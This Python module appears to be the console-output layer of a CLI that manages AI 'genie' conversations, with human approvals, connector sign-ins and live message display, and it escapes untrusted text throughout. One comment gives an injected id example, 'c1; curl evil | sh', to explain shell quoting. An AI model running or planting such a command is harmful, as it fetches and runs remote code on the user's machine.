"""Console output shared by the ``geniectl`` commands and ``geniectl dev``."""

from __future__ import annotations

import asyncio
import contextlib
import json
import shlex
from collections.abc import Awaitable, Callable
from datetime import UTC, datetime
from typing import NoReturn

import typer
from rich.console import Console
from rich.markup import escape
from rich.panel import Panel
from rich.table import Table
from rich.text import Text

from genie_api import HIDDEN, inert
from geniectl._api import GenieConversations, PendingItem
from workflows import TERMINAL_TURN_STATUSES, PendingApproval, PendingConnection, TurnResult

out = Console()
# Errors are read by scripts and pasted into tickets as often as by eyes: Rich would
# hard-wrap them at 80 columns whenever stderr is not a terminal, splitting numbers and
# ids across lines. Soft wrap leaves each message on one line for the terminal to fold.
err = Console(stderr=True, soft_wrap=True)

EXIT_OK = 0
EXIT_REFUSED = 1
EXIT_ERROR = 2
EXIT_NOT_FOUND = 3
EXIT_INTERRUPTED = 130

EXIT_CODES: tuple[tuple[int, str], ...] = (
    (EXIT_OK, "ok"),
    (EXIT_REFUSED, "refused by the conversation (the reason is printed), or the turn failed"),
    (EXIT_ERROR, "usage, configuration or connection error"),
    (EXIT_NOT_FOUND, "no conversation has this workflow id"),
    (EXIT_INTERRUPTED, "interrupted (Ctrl-C)"),
)
"""What each exit code means; ``--help`` and the README both list these."""


def plain(value: object) -> str:
    """``value`` as inert terminal text: each ``HIDDEN`` character (``genie_api.HIDDEN``)
    shown as its Python escape (``\\x1b``, ``\\u202e``) instead of acting. For text
    printed with ``markup=False``."""
    return HIDDEN.sub(lambda m: ascii(m.group())[1:-1], str(value))


def safe(value: object) -> str:
    """``plain`` and escaped for Rich markup: the genie's, the user's, an approver's or
    the server's text inside our markup shows as typed, so ``[link=…]`` makes no
    hyperlink and ``[/]`` no MarkupError."""
    return escape(plain(value))


def fail(message: str, code: int = EXIT_ERROR) -> NoReturn:
    # The message quotes ids, texts and server errors, any of which may hold "[...]",
    # which Rich would otherwise take for markup and swallow.
    err.print(f"[bold red]error:[/] {safe(message)}", highlight=False)
    raise typer.Exit(code)


def age(since: datetime | None) -> str:
    if since is None:
        return "-"
    secs = int((datetime.now(UTC) - since).total_seconds())
    if secs < 120:
        return f"{secs}s"
    if secs < 7200:
        return f"{secs // 60}m"
    return f"{secs // 3600}h{(secs % 3600) // 60:02d}m"


def when(t: datetime | None) -> str:
    return t.astimezone(UTC).strftime("%Y-%m-%d %H:%M:%SZ") if t else "-"


# Ids come from the API (call and attempt ids) as much as from the operator: each is
# quoted, so an id like "c1; curl evil | sh" pastes as one argument, not as a command.
def approval_commands(wid: str, p: PendingApproval, prefix: str = "geniectl") -> list[str]:
    w, ref = shlex.quote(wid), shlex.quote(p.call_id)
    return [
        f"{prefix} approve {w} {ref}",
        f"{prefix} reject {w} {ref} --reason 'why not'",
    ]


def connection_commands(wid: str, c: PendingConnection, prefix: str = "geniectl") -> list[str]:
    w, ref = shlex.quote(wid), shlex.quote(c.attempt_id)
    return [
        f"{prefix} connect-done {w} {ref}",
        f"{prefix} connect-reject {w} {ref}",
        f"{prefix} auth-link {w} {ref}",
    ]


def commands(lines: list[str]) -> None:
    """Print shell commands unwrapped and unstyled, so they paste as they are."""
    for line in lines:
        out.print(f"  $ {plain(line)}", soft_wrap=True, highlight=False, markup=False)


def pause_panel(wid: str, res: TurnResult, prefix: str = "geniectl") -> None:
    for p in res.pending.approvals:
        params = json.dumps(p.skill_parameters, ensure_ascii=False, indent=2)
        if p.parameters_shortened:
            params += "\n(too long to keep whole: shortened where marked …)"
        body = (
            f"skill [bold]{safe(p.skill_name)}[/] wants to run with:\n{safe(params)}\n\n"
            f"call id  [cyan]{safe(p.call_id)}[/]\ndeadline {when(p.deadline)}"
        )
        out.print(Panel(body, title="awaiting approval", border_style="yellow"), highlight=False)
        commands(approval_commands(wid, p, prefix))
    for c in res.pending.connections:
        body = (
            f"connector [bold]{safe(c.connector_name)}[/] needs the user to sign in "
            f"(link expires {when(c.auth_expires_at)}):\n{safe(c.auth_url)}\n\n"
            f"attempt id [cyan]{safe(c.attempt_id)}[/]\ndeadline   {when(c.deadline)}"
        )
        out.print(Panel(body, title="awaiting connection", border_style="yellow"), highlight=False)
        commands(connection_commands(wid, c, prefix))


def print_result(res: TurnResult) -> None:
    if res.status == "completed":
        reply = Text(plain(res.reply)) if res.reply is not None else Text("(no reply)")
        out.print(Panel(reply, title=f"turn {res.turn}: reply"))
    elif res.error is not None:
        code = f" {res.error.error_code}" if res.error.error_code else ""
        text = safe(f"{res.error.type}{code}: {res.error.message}")
        out.print(f"[red]turn {res.turn} {res.status}:[/] {text}", soft_wrap=True)
    else:
        out.print(f"turn {res.turn}: {res.status}")


def _pending_rows(items: list[PendingItem]) -> list[tuple[str, ...]]:
    """(workflow id, genie, user, waits for, id, age, deadline), one per pending decision,
    each as inert text (``plain``), not yet escaped for markup."""
    rows = [
        (
            i.workflow_id,
            i.genie_handle or "-",
            i.user_id or "-",
            f"approve {p.skill_name}",
            p.call_id,
            age(p.requested_at),
            when(p.deadline),
        )
        for i in items
        for p in i.approvals
    ]
    rows += [
        (
            i.workflow_id,
            i.genie_handle or "-",
            i.user_id or "-",
            f"connect {c.connector_name}",
            c.attempt_id,
            age(c.requested_at),
            when(c.deadline),
        )
        for i in items
        for c in i.connections
    ]
    return [tuple(map(plain, row)) for row in rows]


def print_pending(items: list[PendingItem], console: Console | None = None) -> None:
    """The approvals inbox, with every workflow id and call/attempt id printed whole.

    People copy these ids into ``approve``; one split across two lines pastes as a wrong
    id. So nothing wraps: when the table is wider than the terminal (two long ids alone
    take about 80 columns), each pending decision is printed as a short block instead,
    with one id per line.
    """
    con = console or out
    rows = _pending_rows(items)
    if not rows:
        con.print("nothing is waiting for a human")
        return
    heads = ("workflow id", "genie", "user", "waits for", "id", "age", "deadline")
    # The table only when every cell fits on one line (cell padding is 2, borders one per
    # column and one more): a table squeezed by Rich wraps names and dates into towers.
    natural = sum(max(len(h), *(len(r[i]) for r in rows)) + 3 for i, h in enumerate(heads)) + 1
    if natural <= con.width:
        table = Table(title="waiting for a human")
        for head in heads:
            table.add_column(head, no_wrap=True)
        for row in rows:
            table.add_row(*map(Text, row))  # Text: cells are never markup
        con.print(table, highlight=False)
        return
    con.print("[bold]waiting for a human[/]")
    for wid, genie, user, what, ref, waited, deadline in rows:
        label = "call id" if what.startswith("approve") else "attempt id"
        con.print(
            f"\n{escape(what)} · genie {escape(genie)} · user {escape(user)} · "
            f"waiting {waited} · deadline {deadline}",
            soft_wrap=True,
            highlight=False,
        )
        con.print(f"  workflow id  {wid}", soft_wrap=True, highlight=False, markup=False)
        con.print(f"  {label:<11}  {ref}", soft_wrap=True, highlight=False, markup=False)


async def follow_turn(
    api: GenieConversations,
    wid: str,
    turn: int,
    *,
    on_pause: Callable[[TurnResult], Awaitable[None]] | None = None,
    quiet: bool = False,
    prefix: str = "geniectl",
) -> TurnResult:
    """Wait for a turn to end, printing the genie's messages as they arrive, each state
    change and every pause once. ``quiet`` (``--json``) prints one JSON object per
    message instead, for the caller to print the result after.

    Waiting costs one ``wait_turn`` update per pause, however long it lasts; the live
    messages are read from the stream activity's heartbeat (describe), which writes no
    history at all.
    """
    shown: set[str] = set()
    last = ""
    live = LiveMessages(api, wid, turn, quiet=quiet)
    watcher = asyncio.create_task(live.watch())
    try:
        while True:
            res = await api.wait(wid, turn, wait_for="attention", seen=sorted(shown))
            live.catch_up(res.messages)
            if res.status != last and not quiet:
                out.print(f"[dim]{when(datetime.now(UTC))}[/] turn {turn}: {res.status}")
                last = res.status
            if res.status in TERMINAL_TURN_STATUSES:
                return res
            ids = {p.call_id for p in res.pending.approvals if p.decision is None} | {
                c.attempt_id for c in res.pending.connections if c.decision is None
            }
            if ids - shown:
                shown |= ids
                if not quiet:
                    pause_panel(wid, res, prefix)
                if on_pause is not None:
                    await on_pause(res)
    finally:
        watcher.cancel()
        with contextlib.suppress(asyncio.CancelledError):
            await watcher


class LiveMessages:
    """Prints a turn's messages once each: live from heartbeats, then from results."""

    POLL_SECONDS = 0.5

    def __init__(self, api: GenieConversations, wid: str, turn: int, *, quiet: bool) -> None:
        self._api, self._wid, self._turn, self._quiet = api, wid, turn, quiet
        self._printed = 0
        self._from_segment: dict[str, int] = {}
        self._catch_ups = 0

    async def watch(self) -> None:
        while True:
            await asyncio.sleep(self.POLL_SECONDS)
            catch_ups = self._catch_ups
            try:
                segment = await self._api.live_messages(self._wid)
            except Exception:
                continue
            # A result that arrived meanwhile already printed what this poll saw.
            if segment is not None and catch_ups == self._catch_ups:
                key, messages = segment
                for text in messages[self._from_segment.get(key, 0) :]:
                    self._emit(text)
                self._from_segment[key] = len(messages)

    def catch_up(self, messages: list[str]) -> None:
        """Messages a finished segment delivered between two polls."""
        self._catch_ups += 1
        for text in messages[self._printed :]:
            self._emit(text)

    def _emit(self, text: str) -> None:
        self._printed += 1
        if self._quiet:
            line = json.dumps({"turn": self._turn, "message": text}, ensure_ascii=False)
            print(inert(line), flush=True)
        else:
            out.print(f"[dim]genie:[/] {safe(text)}", highlight=False)


# ---------------------------------------------------------------------- commands
